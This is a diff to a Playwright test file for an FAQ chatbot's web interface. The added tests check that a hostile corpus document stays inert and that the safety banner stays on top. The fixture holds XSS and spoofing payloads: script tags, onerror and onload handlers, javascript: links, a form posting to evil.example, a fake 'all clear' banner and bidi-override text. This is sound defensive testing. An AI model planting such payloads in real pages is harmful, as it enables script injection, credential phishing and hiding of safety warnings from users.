@@ -10,7 +10,9 @@ import pytest
 from playwright.sync_api import Browser, BrowserContext, Page, expect, sync_playwright
 
 from faqbot import FaqBot
+from faqbot.building import build
 from faqbot.errors import IndexMissingError
+from faqbot.settings import Settings
 from web_server import serving
 
 pytestmark = pytest.mark.browser
@@ -327,6 +329,113 @@ def test_a_connection_broken_in_the_middle_of_an_answer_is_owned_up_to(open_page
     assert page.locator("#banner").get_attribute("data-level") == "emergency"
     page.locator(".reload").click()
     expect(page.locator(".welcome")).to_be_visible()
+
+
+HOSTILE = """---
+title: "<style>#banner{display:none}</style>All clear"
+url: "javascript:alert(1)"
+author: "<img src=https://evil.example/a.png>"
+---
+# Zebra stripes <script>window.planted = 1</script>
+
+Zebra stripes need rest. <div style="position:fixed;inset:0;z-index:2147483647;background:red">You are fine</div>
+
+<aside id="banner" role="alert" style="position:fixed;top:0">No red flags found, zebra stripes are safe</aside>
+
+<form action="https://evil.example/"><input name="zebra" autofocus><button>Send your zebra details</button></form>
+
+![zebra](https://evil.example/zebra.png) <img src="https://evil.example/stripes.png" onerror="window.planted = 2">
+
+[Zebra stripes help](javascript:window.planted=3) and <a href="https://evil.example" style="position:fixed">zebra</a>.
+‮Zebra stripes reversed‬ ⁧isolated zebra⁩ {{7*7}} ${window.planted=4}
+
+<iframe src="https://evil.example"></iframe> <svg onload="window.planted=5"> <marquee>zebra</marquee>
+"""
+
+
+@pytest.fixture(scope="module")
+def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
+    """A server of an index built from a hostile document, with no limit on how far a question may be from it."""
+    folder = tmp_path_factory.mktemp("hostile")
+    (folder / "corpus").mkdir()
+    (folder / "corpus" / "<b>zebra.md").write_text(HOSTILE, encoding="utf-8")
+    (folder / "corpus" / "zebra.txt").write_text("Zebra stripes\n\n" + HOSTILE.split("---")[2], encoding="utf-8")
+    build(folder / "corpus", folder / "index", settings=Settings())
+    with FaqBot.load(folder / "index") as bot, serving(bot) as address:
+        yield address
+
+
+def test_a_hostile_document_stays_text_and_the_banner_stays_on_top(hostile: str, open_page: Opener) -> None:
+    page = open_page(hostile)
+    asked: list[str] = []
+    page.on("request", lambda request: asked.append(request.url))
+    for question in ("zebra stripes rest", "<img src=https://evil.example/q onerror=window.planted=6> zebra {{7*7}}"):
+        ask(page, question)
+        for summary in last(page).locator("summary").all():
+            if summary.is_visible():
+                summary.click()
+        assert in_view(page, "#banner")
+    assert page.evaluate("window.planted") is None
+    assert [url for url in asked if not url.startswith(hostile)] == []
+    shown = page.locator("#turns")
+    forbidden = (
+        "img, form, input, iframe, svg, script, style, marquee, object, [style], [onerror], [onload], [autofocus]"
+    )
+    assert shown.locator(forbidden).count() == 0
+    assert page.locator("#banner").count() == 1
+    assert shown.locator("a[href^='javascript']").count() == 0
+    assert not re.search("[\u202a-\u202e\u2066-\u2069]", shown.inner_text())
+    expect(shown).to_contain_text("{{7*7}}")
+    expect(page.locator("#standing")).to_be_visible()
+
+
+def test_a_hostile_document_is_inert_on_its_own_page_too(hostile: str, open_page: Opener) -> None:
+    page = open_page(hostile)
+    asked: list[str] = []
+    page.on("request", lambda request: asked.append(request.url))
+    page.goto(f"{hostile}/documents/%3Cb%3Ezebra.md")
+    expect(page.locator("main")).to_contain_text("You are fine")
+    assert page.locator("main :is(img, form, iframe, svg, script, style, [style])").count() == 0
+    assert page.evaluate("window.planted") is None
+    assert [url for url in asked if not url.startswith(hostile)] == []
+
+
+STATES: dict[str, tuple[str, ...]] = {
+    "first visit": (),
+    "answer": (QUESTION,),
+    "table": ("compare the conditions and their symptoms in a table",),
+    "no answer": ("what is the capital of Mongolia",),
+    "urgent": ("I have a fever and my back hurts when I walk",),
+    "emergency": (ALARM, "which shoes are good"),
+    "crisis": ("I want to end my life because of this pain",),
+    "refused": ("",),
+}
+
+
+@pytest.mark.parametrize("scheme", ["light", "dark"])
+@pytest.mark.parametrize("state", STATES)
+def test_axe_finds_nothing_serious(open_page: Opener, state: str, scheme: str) -> None:
+    page = open_page(color_scheme=scheme, viewport={"width": 390, "height": 800})
+    for message in STATES[state]:
+        ask(page, message)
+    for summary in page.locator("#turns summary").all():
+        if summary.is_visible():
+            summary.click()
+    assert serious(page) == []
+
+
+def serious(page: Page) -> list[str]:
+    """What axe-core calls serious or critical, as rule and selector."""
+    if not AXE.exists():
+        pytest.skip(f"no axe-core at {AXE}: npm install --prefix build/axe axe-core")
+    page.evaluate(AXE.read_text(encoding="utf-8"))
+    found = page.evaluate("axe.run(document, {resultTypes: ['violations']})")
+    return [
+        f"{violation['id']}: {node['target']} {node['failureSummary']}"
+        for violation in found["violations"]
+        if violation["impact"] in ("serious", "critical")
+        for node in violation["nodes"]
+    ]
 
 
 def test_no_request_leaves_the_server_and_nothing_is_kept(open_page: Opener, address: str) -> None:
